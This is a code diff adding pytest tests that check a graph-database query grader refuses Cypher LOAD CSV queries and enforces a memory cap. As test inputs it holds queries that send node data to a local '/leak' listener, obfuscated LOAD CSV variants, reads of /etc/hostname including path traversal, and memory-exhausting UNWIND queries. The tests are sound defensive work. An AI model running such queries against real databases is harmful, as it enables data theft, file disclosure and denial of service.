@@ -128,3 +128,96 @@ def test_birds_private_copy_fetch_is_capped(tiny_sqlite, tmp_path):
     assert event["reason"] in MEMORY_REASONS, event
     assert event["detail"].startswith("pred:")
     assert _peak_rss_mb() < PEAK_CEILING_MB
+
+
+# ---------------------------------------------------------------- the graph server: outbound loads and memory
+
+
+def _graph_setup(tmp_path: Path) -> tuple[ExecConfig, Path]:
+    dbs = tmp_path / "dbs"
+    dbs.mkdir()
+    (dbs / "g.cypher").write_text("CREATE (:Person {name: 'Ann'});\nCREATE (:Person {name: 'Bo'});\n")
+    return ExecConfig(output_dir=tmp_path / "work", db_dir=dbs, memory_limit_mb=LIMIT_MB, timeout_s=20), dbs
+
+
+class _Listener:
+    """A TCP port on 127.0.0.1 that counts who connects (the outbound request LOAD CSV would make)."""
+
+    def __init__(self) -> None:
+        import socket
+        import threading
+
+        self.server = socket.socket()
+        self.server.bind(("127.0.0.1", 0))
+        self.server.listen(8)
+        self.server.settimeout(0.2)
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        self.running = True
+        self.thread = threading.Thread(target=self._accept, daemon=True)
+        self.thread.start()
+
+    def _accept(self) -> None:
+        while self.running:
+            try:
+                client, _ = self.server.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            client.close()
+
+    def close(self) -> None:
+        self.running = False
+        self.thread.join()
+        self.server.close()
+
+
+def test_load_csv_is_refused_and_the_server_reads_no_file(tmp_path):
+    pytest.importorskip("falkordb")
+    from evaluators.execution.graphs import server_for
+
+    config, _ = _graph_setup(tmp_path)
+    listener = _Listener()
+    url = f"http://127.0.0.1:{listener.port}/leak"
+    payloads = [
+        f"MATCH (p:Person) WITH collect(p.name) AS names LOAD CSV FROM '{url}?d=' + names[0] AS r RETURN r",
+        f'load csv with headers from "{url}" as row return count(row)',
+        f"CALL {{ LOAD /* x */ CSV FROM '{url}' AS r RETURN r }} RETURN count(*)",
+        "LOAD CSV FROM 'file:///etc/hostname' AS r RETURN r",
+    ]
+    try:
+        for query in payloads:
+            result = run_sql("cypher", "g", query, config, tmp_path / "r.csv", collect="inline")
+            assert result.reason == "exec_error" and "LOAD CSV" in result.detail, (query, result)
+        time.sleep(0.3)
+        assert listener.connections == 0
+        # A name or a string that only mentions it is a query like any other.
+        fine = run_sql("cypher", "g", "MATCH (p) WHERE p.name <> 'load csv' RETURN count(p)", config, tmp_path / "f")
+        assert fine.ok and fine.first_cell == 2
+        # Behind the grader's check, the server itself reads no file: its import folder is empty and its own.
+        server = server_for(config.output_dir)
+        settings = dict(server.client.connection.execute_command("GRAPH.CONFIG", "GET", "*"))
+        assert Path(settings["IMPORT_FOLDER"]).resolve() == (config.output_dir / "cypher" / "import-empty").resolve()
+        assert list(Path(settings["IMPORT_FOLDER"]).iterdir()) == []
+        assert settings["QUERY_MEM_CAPACITY"] == LIMIT_MB * 1024 * 1024
+        graph = server.client.select_graph(server.built[next(iter(server.built))])
+        for target in ("file:///etc/hostname", "file://../../../../etc/hostname"):
+            with pytest.raises(Exception, match="(?i)error opening csv"):
+                graph.ro_query(f"LOAD CSV FROM '{target}' AS r RETURN r")
+    finally:
+        listener.close()
+
+
+def test_a_query_that_grows_the_graph_server_is_stopped_at_its_memory_cap(tmp_path):
+    pytest.importorskip("falkordb")
+    config, _ = _graph_setup(tmp_path)
+    for query in (
+        "UNWIND range(1, 40000000) AS x WITH collect(x) AS l RETURN size(l)",
+        "UNWIND range(1, 3000000) AS x RETURN size(collect(toString(x) + '-padding-padding-padding'))",
+    ):
+        started = time.monotonic()
+        result = run_sql("cypher", "g", query, config, tmp_path / "r.csv")
+        assert result.reason == "memory_limit", (query, result)
+        assert time.monotonic() - started < 15
+    after = run_sql("cypher", "g", "MATCH (p:Person) RETURN count(p)", config, tmp_path / "after.csv")
+    assert after.ok and after.first_cell == 2  # the same server goes on
